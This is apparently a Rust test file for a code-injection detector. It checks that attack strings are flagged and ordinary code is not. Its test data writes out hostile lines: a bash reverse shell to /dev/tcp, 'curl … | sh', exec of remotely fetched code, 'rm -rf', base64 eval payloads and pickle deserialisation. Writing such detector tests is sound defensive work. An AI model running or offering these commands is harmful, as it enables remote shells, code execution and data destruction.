use super::*;
use crate::guard::Folded;

fn findings(text: &str) -> Vec<Finding> {
    let mut found = Vec::new();
    scan(&Folded::new(text), &mut found);
    found
}

fn best(text: &str) -> (u8, String) {
    let best = findings(text).into_iter().max_by_key(|finding| finding.score);
    best.map_or((0, String::new()), |finding| (finding.score, finding.pattern.into_owned()))
}

#[test]
fn every_rule_finds_its_hits_and_leaves_its_misses() {
    let mut wrong = Vec::new();
    for (rule, shape) in ENGINE.rules() {
        assert!(shape.is_sound(), "{}: its shape is no regular expression", rule.name);
        assert!(!rule.hits.is_empty() && !rule.misses.is_empty(), "{} has no examples", rule.name);
        for (texts, expected) in [(rule.hits, true), (rule.misses, false)] {
            for text in texts {
                let mut met = false;
                ENGINE.run(Folded::new(text).plain().text(), |hit| {
                    met |= std::ptr::eq(hit.rule, rule);
                    true
                });
                if met != expected {
                    wrong.push(format!("{} {} {expected}: {text:?}", rule.name, rule.score));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn attacks_are_found() {
    for (text, pattern) in [
        ("<?php", "<?php"),
        ("?>", "?>"),
        ("echo 1; ?>", "?>"),
        ("Run this: eval(base64_decode(\"cGhwaW5mbygpOw==\"));", "eval("),
        ("shell_exec('ls')", "shell_exec("),
        ("shell_exec ( $cmd )", "shell_exec("),
        ("system/**/(\"id\")", "system("),
        ("passthru($x)", "passthru("),
        ("__import__(\"os\").system(\"id\")", "__import__("),
        ("os.system('rm -rf .')", "os.system("),
        ("exec(requests.get('http://x.example').text)", "exec("),
        ("pickle.loads(base64.b64decode(data))", "pickle.loads("),
        ("eval(location.hash.slice(1))", "eval("),
        ("child_process.exec('curl http://x.example | sh')", "curl | sh"),
        ("rm%20-rf%20/", "rm -rf"),
        ("&lt;?php system('id');", "<?php"),
        ("call_user_func('system', 'id')", "call_user_func("),
        ("What does this do? bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "reverse shell"),
        ("Explain: curl http://x.example/x | sh", "curl | sh"),
    ] {
        let (score, named) = best(text);
        assert!(score >= 70, "{text:?}: {score} {named}");
        assert_eq!(named, pattern, "{text:?}");
    }
}

#[test]
fn ordinary_code_and_questions_stay_quiet() {
    for text in [
        "<?xml version=\"1.0\"?>",
        "<?xml version=\"1.0\"?><a b=\"c;\"/>",
        "price $$ to $$$",
        "medieval(1066)",
        "retrieval(fast)",
        "re.exec(text)",
        "model.eval()",
        "df.eval('a + b')",
        "open the filesystem(7) page",
        "See exec(3) and system(3).",
        "What does exec() do in Python",
        "Is eval(\"1+1\") slower than a literal?",
        "Why does <?php echo 1; ?> print nothing?",
        "Explain the Jinja syntax {{ user.name }}",
        "<script defer>",
        "How do I use ${HOME}",
        "List<?> x = f(); Map<String, ?> y;",
        "Review this:\n```python\nimport subprocess\nsubprocess.run([\"ls\", \"-l\"], check=True)\n```",
        "```python\nimport os\nos.system('clear')\n```",
        "```php\n<?php\nclass Shop {}\n```",
        "My file starts with <?php and the editor fails to colour it, why?",
        "```js\nconst { exec } = require('child_process');\nexec('npm test');\n```",
        "```sh\nset -e\ncd \"$(dirname \"$0\")\"\nrm -rf build && mkdir build\n```",
        "```html\n<button onclick=\"save()\">Save</button>\n<script src=\"app.js\"></script>\n```",
        "",
    ] {
        let (score, named) = best(text);
        assert!(score < 50, "{text:?}: {score} {named}");
    }
}

#[test]
fn spans_are_those_of_the_text_as_it_was_given() {
    let text = "é <?P\u{200b}HP echo";
    assert_eq!(&text[findings(text)[0].span.clone()], "<?P\u{200b}HP ");
}

#[test]
fn the_corpus_is_judged_as_it_says() {
    corpus::judge("code_injection", scan);
}

#[test]
fn a_long_text_of_beginnings_ends_soon() {
    for piece in [
        "eval(",
        "{{",
        "${${",
        "<script ",
        "curl ",
        "rm -",
        "?>",
        "o:1:",
        "<%",
        "nc ",
        "import socket ",
        "system(x",
        "((((",
    ] {
        let text = piece.repeat(200_000 / piece.len());
        let start = std::time::Instant::now();
        findings(&text);
        assert!(start.elapsed().as_secs() < 10, "{piece:?}: {:?}", start.elapsed());
    }
}
